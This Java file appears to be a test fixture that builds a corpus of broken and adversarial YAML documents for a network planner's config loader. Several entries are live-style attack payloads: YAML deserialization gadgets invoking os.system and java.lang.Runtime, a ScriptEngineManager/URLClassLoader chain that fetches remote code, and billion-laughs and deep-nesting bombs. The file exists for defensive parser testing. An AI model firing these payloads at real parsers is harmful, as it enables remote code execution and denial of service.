package dev.ovnet.planner.config;

import java.util.ArrayList;
import java.util.List;

/** Whole documents that are broken or adversarial as a whole: syntax, shape, size, depth, aliases, bytes. */
final class HostileDocuments {

    static final String VALID = Fixtures.MINIMAL;

    private HostileDocuments() {
    }

    static List<String[]> all() {
        List<String[]> corpus = new ArrayList<>();
        String[] fragments = {
            "", " ", "\n\n\n", "# only a comment", "---", "...", "--- \n...\n", "~", "null", "0", "true", "[]", "{}",
            "''", "\"\"", "-", "- -", ":", "::", "? ", "{", "}", "[", "]", "{a: 1", "[1, 2", "a: 'unterminated",
            "a: \"bad escape \\q\"", "a: b: c", "\ta: 1", "a:\n\t- b", "a:\n- b\n c: d", "&a", "*a", "!!", "!x y",
            "%YAML 1.1\n%YAML 1.1\n---\na: 1", "%TAG ! tag:example.com,2000:\n---\n!a b", "@at", "`tick`",
            "a: |\n  block\n b: 1", "a: >\n folded\nb", "? [complex, key]\n: value", "{[a]: 1}",
            "- network:\n    pool: 10.100.0.0/16", "network", "hosts", "network: []\nhosts: {}",
            "network: {pool: 10.100.0.0/16}\nhosts: node-1", "network: {pool: 10.100.0.0/16}\nhosts: [[]]",
            "network: {pool: 10.100.0.0/16}\nhosts: [~]", "network: {pool: 10.100.0.0/16}\nhosts: [{}]",
            "network: {pool: 10.100.0.0/16}\nhosts: [1, 2, 3]", "<<: {a: 1}", "!!binary aGVsbG8=",
            "a: !!python/object/apply:os.system ['reboot']", "a: !!java.lang.Runtime {}",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
            "network: {pool: 10.100.0.0/16, pool: 10.1.0.0/16}\nhosts: []", "\u0000", "\u0007", "\u001b[2J",
            "\ud800", "\ufffe", "network:\n  pool: 10.100.0.0/16\n\u0085hosts: []", VALID + "---\n" + VALID,
            VALID + VALID, VALID.replace("\n", "\r ") + "\r", VALID + "\u0000", VALID.replace(":", ":\n"),
            VALID.replace("  ", "\t"), VALID.replace("- ", "-"), VALID.replace("network", "Network"),
            VALID.toUpperCase(), VALID.replace("192.0.2.11", "10.100.0.1"), VALID + "extra: 1\n",
        };
        for (int i = 0; i < fragments.length; i++) {
            corpus.add(new String[] {"fragment " + i, fragments[i]});
        }
        corpus.add(new String[] {"billion laughs", billionLaughs()});
        corpus.add(new String[] {"recursive alias", "a: &a [*a]\n"});
        corpus.add(new String[] {"alias to missing anchor", VALID + "lab: *nowhere\n"});
        corpus.add(new String[] {"merge key with alias", "base: &b {pool: 10.100.0.0/16}\nnetwork:\n  <<: *b\n"});
        corpus.add(new String[] {"deep flow nesting", "[".repeat(50_000) + "]".repeat(50_000)});
        corpus.add(new String[] {"deep block nesting", deepMapping(2_000)});
        corpus.add(new String[] {"nesting in a host",
                VALID + "    ssh: " + "{a: ".repeat(40) + "1" + "}".repeat(40)});
        corpus.add(new String[] {"over the size limit", VALID + "# " + "x".repeat(YamlLoader.CODE_POINT_LIMIT)});
        corpus.add(new String[] {"long key", VALID + "k".repeat(100_000) + ": 1\n"});
        corpus.add(new String[] {"ten thousand unknown keys", VALID + unknownKeys(10_000)});
        corpus.add(new String[] {"five thousand hosts of one name", "network: {pool: 10.100.0.0/16}\nhosts:\n"
                + "  - {name: same, address: 192.0.2.1}\n".repeat(5_000)});
        corpus.add(new String[] {"one long line", "network: {pool: 10.100.0.0/16, " + "a: 1, ".repeat(20_000) + "}"});
        corpus.add(new String[] {"half a megabyte of digits", VALID.replace("pool: 10.100.0.0/16",
                "pool: 10.100.0.0/16\n  subnetLength: " + "9".repeat(500_000))});
        corpus.add(new String[] {"sexagesimal-like scalar", VALID.replace("node-1", "1" + ":1".repeat(200_000))});
        corpus.add(new String[] {"float-like scalar", VALID.replace("192.0.2.11", "1" + "_1".repeat(200_000) + ".")});
        corpus.add(new String[] {"huge integer list", VALID + "lab:\n  segments: [" + "1, ".repeat(20_000) + "1]\n"});
        for (int c = 1; c < 0xa0; c++) {
            boolean printable = c == '\t' || c == '\n' || c == '\r' || (c >= 0x20 && c < 0x7f) || c == 0x85;
            if (!printable) {
                corpus.add(new String[] {String.format("raw U+%04X in a name", c),
                        VALID.replace("node-1", "node" + (char) c + "1")});
            }
        }
        return corpus;
    }

    private static String billionLaughs() {
        StringBuilder out = new StringBuilder("a: &a [" + "\"lol\",".repeat(8) + "\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            out.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                out.append(i == 0 ? "" : ",").append('*').append(p);
            }
            out.append("]\n");
        }
        return out.append(VALID).toString();
    }

    private static String deepMapping(int depth) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            out.append(" ".repeat(i)).append("k").append(i).append(":\n");
        }
        return out.toString();
    }

    private static String unknownKeys(int count) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            out.append("unknown").append(i).append(": ").append(i).append('\n');
        }
        return out.toString();
    }
}
